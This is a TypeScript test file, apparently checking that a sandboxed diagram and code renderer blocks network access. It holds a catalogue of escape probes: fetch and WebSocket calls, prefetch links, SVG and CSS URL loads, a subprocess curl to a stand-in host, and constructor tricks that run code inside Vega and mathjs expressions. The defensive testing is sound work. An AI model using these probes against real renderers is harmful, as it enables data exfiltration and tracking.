import { type Attack, page, svg, testAttacks } from './attack.js';

const html = (name: string, script: string, body?: string, head?: string): Attack => ({
  name,
  language: 'html',
  program: page(script, body, head),
  outcome: ['drawn', 'unresolved-data', 'runtime'],
});

const vegaMark =
  '"marks":[{"type":"image","encode":{"enter":{"url":{"value":"MARKER/i.png"},"width":{"value":9},"height":{"value":9}}}}]';

testAttacks('the network', [
  html(
    'fetch',
    'fetch("MARKER/a"); fetch("MARKER/b", { mode: "no-cors", keepalive: true }); fetch("http://localhost:PORT"); fetch("http://[::1]:PORT"); fetch("http://0.0.0.0:PORT")',
  ),
  html(
    'XMLHttpRequest, also synchronous',
    'for (const wait of [true, false]) { const call = new XMLHttpRequest(); call.open("POST", "MARKER/x", wait); try { call.send("x"); } catch {} }',
  ),
  html(
    'WebSocket and WebTransport',
    'new WebSocket("ws://127.0.0.1:PORT/"); try { new WebTransport("https://127.0.0.1:PORT/"); } catch {}',
  ),
  html(
    'WebRTC',
    'const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:127.0.0.1:PORT", "turn:127.0.0.1:PORT?transport=tcp"], username: "a", credential: "b" }] }); peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); peer.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 127.0.0.1 PORT typ host", sdpMid: "0" }).catch(() => 0)',
  ),
  html(
    'EventSource and beacons',
    'new EventSource("MARKER/e"); navigator.sendBeacon("MARKER/b", "x"); document.body.insertAdjacentHTML("beforeend", "<a id=l href=# ping=MARKER/p>l</a>"); l.click()',
  ),
  html(
    'pictures',
    'new Image().src = "MARKER/i"; document.body.style.backgroundImage = "image-set(url(MARKER/s) 1x)"',
    '<p>shown</p><img srcset="MARKER/1 1x, MARKER/2 2x"><picture><source srcset="MARKER/3"><img src="MARKER/4"></picture><input type="image" src="MARKER/5"><video poster="MARKER/6"></video>',
  ),
  html(
    'fonts, style sheets and imports',
    'new FontFace("f", "url(MARKER/f.woff2)").load().catch(() => 0)',
    undefined,
    '<link rel="stylesheet" href="MARKER/a.css"><style>@import url(MARKER/b.css); @font-face { font-family: g; src: url(MARKER/g.woff) } p { font-family: g; cursor: url(MARKER/c.cur), auto; list-style: url(MARKER/l.png) }</style>',
  ),
  html(
    'frames, objects and media',
    'const frame = document.createElement("iframe"); frame.srcdoc = "<script>fetch(\\"MARKER/srcdoc\\")<\\/script><img src=MARKER/inner>"; document.body.append(frame)',
    '<p>shown</p><iframe src="MARKER/f"></iframe><object data="MARKER/o"></object><embed src="MARKER/e"><audio src="MARKER/a" autoplay></audio><video src="MARKER/v" autoplay></video>',
  ),
  html(
    'the globals of an empty frame',
    'const frame = document.createElement("iframe"); document.body.append(frame); const other = frame.contentWindow; if (other) { other.fetch("MARKER/f").catch(() => 0); new other.WebSocket("ws://127.0.0.1:PORT/"); new other.Image().src = "MARKER/i"; }',
  ),
  html(
    'forms',
    'document.forms[0].submit()',
    '<p>shown</p><form action="MARKER/form" method="post"><input name="a" value="b"></form>',
  ),
  html(
    'links that load before they are asked to',
    '',
    undefined,
    '<link rel="prefetch" href="MARKER/a"><link rel="preload" as="script" href="MARKER/b"><link rel="modulepreload" href="MARKER/c"><link rel="preconnect" href="MARKER"><link rel="dns-prefetch" href="//marker.test"><link rel="prerender" href="MARKER/d"><link rel="icon" href="MARKER/e"><link rel="manifest" href="MARKER/f"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["MARKER/g"]}],"prerender":[{"source":"list","urls":["MARKER/h"]}]}</script>',
  ),
  html(
    'service workers and workers',
    'navigator.serviceWorker?.register("MARKER/s.js").catch(() => 0); const text = URL.createObjectURL(new Blob(["fetch(\'MARKER/w\'); importScripts(\'MARKER/i\')"])); for (const Kind of [Worker, SharedWorker]) try { new Kind(text); } catch {}',
  ),
  html('going elsewhere', 'location = "MARKER/elsewhere"'),
  html(
    'going elsewhere after a while',
    'setTimeout(() => location.assign("MARKER/later"), 50); setTimeout(() => history.pushState(0, "", "/x"), 60); setTimeout(() => location.reload(), 80)',
    '<p>shown</p>',
    '<meta http-equiv="refresh" content="0; url=MARKER/meta">',
  ),
  html(
    'windows and downloads',
    'window.open("MARKER/w"); const link = document.createElement("a"); link.href = "MARKER/d"; link.download = "x"; link.click(); link.target = "_blank"; link.removeAttribute("download"); link.click()',
  ),
  html(
    'scripts and modules',
    'import("MARKER/m.js").catch(() => 0); const tag = document.createElement("script"); tag.src = "MARKER/t.js"; document.body.append(tag)',
    undefined,
    '<script type="importmap">{"imports":{"d3":"MARKER/d3.js"}}</script><script type="module">import "d3"</script>',
  ),
  html(
    'addresses that look like those of libraries',
    'fetch("https://cdn.jsdelivr.net@127.0.0.1:PORT/npm/d3").catch(() => 0); fetch("http://cdn.jsdelivr.net:PORT/npm/d3/package.json").catch(() => 0)',
    undefined,
    '<script src="http://unpkg.com@127.0.0.1:PORT/d3"></script>',
  ),
  html(
    'pictures of SVG with addresses inside',
    '',
    `<p>shown</p><img src="data:image/svg+xml,${encodeURIComponent(svg('<image href="MARKER/i.png" width="9" height="9"/><style>@import url(MARKER/a.css);</style>'))}">`,
  ),
  {
    name: 'pictures, filters and styles',
    language: 'svg',
    outcome: ['unresolved-data'],
    program: svg(
      '<style>@import "MARKER/a.css"; circle { fill: url(MARKER/p.svg#p) }</style><filter id="f"><feImage href="MARKER/f"/></filter><use href="MARKER/u.svg#a"/><circle r="9" filter="url(#f)" mask="url(MARKER/m#m)"/>',
    ),
  },
  {
    name: 'scripts and handlers',
    language: 'svg',
    outcome: ['drawn'],
    program: svg(
      '<script>fetch("MARKER/s")</script><circle r="9" onload="fetch(\'MARKER/o\')"/><a href="javascript:fetch(\'MARKER\')"><text y="9">l</text></a><set attributeName="href" to="MARKER/t" begin="0s"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="MARKER/f"/></foreignObject>',
    ),
  },
  {
    name: 'data by address',
    language: 'vega-lite',
    outcome: ['unresolved-data'],
    program: '{"data":{"url":"MARKER/d.json"},"mark":"bar","encoding":{"x":{"field":"a"}}}',
  },
  {
    name: 'pictures by address',
    language: 'vega',
    outcome: ['drawn', 'unresolved-data', 'runtime'],
    program: `{"width":50,"height":50,${vegaMark}}`,
  },
  {
    name: 'expressions that call',
    language: 'vega',
    outcome: ['invalid', 'runtime', 'drawn'],
    program:
      '{"width":50,"height":50,"signals":[{"name":"s","update":"fetch(\'MARKER/f\')"},{"name":"t","update":"toString.constructor(\'fetch(`MARKER/c`)\')()"}],"marks":[{"type":"rect","encode":{"enter":{"width":{"value":9},"height":{"value":9},"fill":{"value":"red"}}}}]}',
  },
  {
    name: 'labels with pictures, clicks and styles',
    language: 'mermaid',
    outcome: ['drawn', 'invalid', 'syntax', 'runtime', 'unresolved-data'],
    program:
      '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(MARKER/t.css); .node { background: url(MARKER/n.png) }", "fontFamily": "x; src: url(MARKER/f)"}}%%\nflowchart LR\n  A["<img src=\'MARKER/i.png\' onerror=\'fetch(`MARKER/e`)\'>"] --> B["<iframe src=\'MARKER/f\'></iframe>"]\n  click A href "MARKER/click"\n  click B call fetch("MARKER/call")',
  },
  {
    name: 'pictures and style sheets',
    language: 'dot',
    outcome: ['drawn', 'invalid', 'unresolved-data', 'runtime', 'syntax'],
    program:
      'digraph { graph [stylesheet="MARKER/s.css" imagepath="MARKER"] a [image="MARKER/i.png" shapefile="MARKER/f.svg" URL="MARKER/u" href="javascript:fetch(\'MARKER\')"]; b [label=<<table><tr><td><img src="MARKER/t.png"/></td></tr></table>>] a -> b }',
  },
  {
    name: 'links, pictures and extensions',
    language: 'latex',
    outcome: ['invalid', 'drawn', 'syntax'],
    program:
      '\\href{MARKER/h}{x} \\includegraphics{MARKER/g.png} \\require{MARKER/r.js} \\style{background: url(MARKER/s)}{y} \\cssId{a}{z}',
  },
  {
    name: 'a name that is an address',
    language: 'smiles',
    outcome: ['drawn', 'syntax', 'invalid'],
    program: 'CCO |$MARKER/<img src=MARKER/i>$| <img src="MARKER/j">',
  },
  {
    name: 'urllib, sockets and curl',
    language: 'matplotlib',
    outcome: ['drawn', 'runtime'],
    program:
      'import socket, urllib.request, subprocess\nimport matplotlib.pyplot as plt\nfor attempt in (lambda: urllib.request.urlopen("MARKER/u", timeout=1), lambda: socket.create_connection(("127.0.0.1", PORT), 1), lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)), lambda: subprocess.run(["curl", "MARKER/c"])):\n    try:\n        attempt()\n    except BaseException:\n        pass\nplt.plot([1, 2])\n',
  },
  {
    name: 'pictures and specials',
    language: 'tikz',
    outcome: ['drawn', 'syntax', 'invalid', 'unresolved-data'],
    program: String.raw`\begin{tikzpicture}\node {x};\special{dvisvgm:raw <image href="MARKER/a.png" width="9" height="9"/>}\special{dvisvgm:img 9 9 MARKER/b.png}\special{html:<img src="MARKER/c">}\end{tikzpicture}`,
  },
  {
    name: 'code in words, styles and imports',
    language: 'mathjs',
    outcome: ['drawn', 'invalid', 'syntax'],
    program: `point(1, 2, "<image href='MARKER/a.png'/>")\npoint(2, 2, {color: "url(MARKER/b)"})\nimport("MARKER/c.js")`,
  },
  {
    name: 'the engine behind an expression',
    language: 'mathjs',
    outcome: ['invalid', 'syntax', 'runtime'],
    program: `f = cos.constructor("fetch('MARKER/f')")\nf()\npoint(1, 2)`,
  },
]);
